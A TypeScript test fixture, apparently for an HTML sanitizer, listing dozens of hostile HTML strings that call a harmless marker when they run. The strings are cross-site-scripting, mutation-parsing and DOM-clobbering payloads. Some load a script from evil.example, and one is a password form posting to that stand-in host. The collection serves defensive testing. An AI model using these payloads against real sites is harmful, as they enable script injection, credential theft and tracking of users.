/** HTML of somebody who means harm: each calls `pwned.push` when it gets to run. */
export const hostileHtml: Readonly<Record<string, string>> = {
  'a script': '<script>pwned.push(1)</script>',
  'a script in capitals, unclosed': '<SCRIPT>pwned.push(1)//',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'an image that fails': '<img src="/nothing-here.png" onerror="pwned.push(1)">',
  'an image with a quote trick': '<img """><img src=x onerror=pwned.push(1)>">',
  'an image without spaces': '<img/src="x"/onerror=pwned.push(1)>',
  'a handler on a harmless element': '<p onclick="pwned.push(1)" onmouseover="pwned.push(1)">x</p>',
  'a handler that starts by itself': '<details open ontoggle="pwned.push(1)">x</details>',
  'a handler of an animation': '<p style="animation:x" onanimationstart="pwned.push(1)">x</p>',
  'focus that comes by itself': '<input autofocus onfocus="pwned.push(1)">',
  'a body with onload': '<body onload="pwned.push(1)">x',
  'a video that fails': '<video><source onerror="pwned.push(1)" src="x"></video>',
  'a javascript link': '<a href="javascript:pwned.push(1)">press</a>',
  'a javascript link with tabs': '<a href="java\tscript:pwned.push(1)">press</a>',
  'a javascript link with entities': '<a href="&#106;avascript&colon;pwned.push(1)">press</a>',
  'a javascript link after control characters':
    '<a href="\u0001javascript:pwned.push(1)">press</a>',
  'a javascript link with a host': '<a href="javascript://x%0apwned.push(1)">press</a>',
  'a data link': '<a href="data:text/html,<script>pwned.push(1)</script>">press</a>',
  'a vbscript link': '<a href="vbscript:pwned.push(1)">press</a>',
  'svg with onload': '<svg onload="pwned.push(1)"></svg>',
  'svg with a script': '<svg><script>pwned.push(1)</script></svg>',
  'svg that animates a link':
    '<svg><a><animate attributeName="href" values="javascript:pwned.push(1)"/><text y="20">press</text></a></svg>',
  'svg that uses another':
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned.push(1)>#x"></use></svg>',
  'svg with foreign objects':
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwned.push(1)</script>"></iframe></foreignObject></svg>',
  'svg with a style that holds a title':
    '<svg></p><style><a id="</style><img src=1 onerror=pwned.push(1)>">',
  'math that changes the parser':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned.push(1)&gt;">',
  'math with nested forms':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned.push(1)>',
  'math with a link': '<math><a xlink:href="javascript:pwned.push(1)">press</a></math>',
  'a noscript that closes an attribute':
    '<noscript><p title="</noscript><img src=x onerror=pwned.push(1)>">',
  'a comment that closes early': '<!--><img src=x onerror=pwned.push(1)>-->',
  'a template': '<template><img src=x onerror=pwned.push(1)></template>',
  'a template with a shadow':
    '<div><template shadowrootmode="open"><img src=x onerror=pwned.push(1)></template></div>',
  'deep nesting': `${'<div>'.repeat(600)}<img src=x onerror=pwned.push(1)>${'</div>'.repeat(600)}`,
  'a textarea that ends early':
    '<textarea><img title="</textarea><img src=x onerror=pwned.push(1)>">',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=pwned.push(1)>">',
  'a frame': '<iframe src="javascript:parent.pwned.push(1)"></iframe>',
  'a frame with its own document':
    '<iframe srcdoc="<script>parent.pwned.push(1)</script>"></iframe>',
  'an object': '<object data="javascript:pwned.push(1)"></object>',
  'an embed': '<embed src="javascript:pwned.push(1)">',
  'a base': '<base href="https://evil.example/"><a href="/promotions">press</a>',
  'a form':
    '<form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>',
  'a button of a form elsewhere':
    '<button form="x" formaction="javascript:pwned.push(1)">press</button>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'a style sheet':
    '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  'a style that covers the page':
    '<a href="https://evil.example/" style="position:fixed;inset:0;z-index:9999">press</a>',
  'a picture that tells who reads': '<img src="https://evil.example/pixel.gif" alt="a pixel">',
  'a picture of many sources':
    '<picture><source srcset="https://evil.example/a.png"><img srcset="https://evil.example/b.png 2x"></picture>',
  'a background': '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  'a link that pings': '<a href="/promotions" ping="https://evil.example/">press</a>',
  'clobbering of the document':
    '<img name="cookie"><form name="body"></form><a id="defaultView"></a>',
  'clobbering of the window':
    '<a id="show" href="https://evil.example/"></a><a id="pwned"></a><img name="refused">',
  'clobbering of a form of nodes':
    '<form id="x"><input name="attributes"><input name="parentNode"><input name="childNodes"></form>',
  'a class of the portal': '<div class="dialog" role="alert" tabindex="0" contenteditable>x</div>',
  'a slot and a part':
    '<p slot="x" part="y" is="z-z" popover>x</p><z-z onclick="pwned.push(1)">x</z-z>',
};
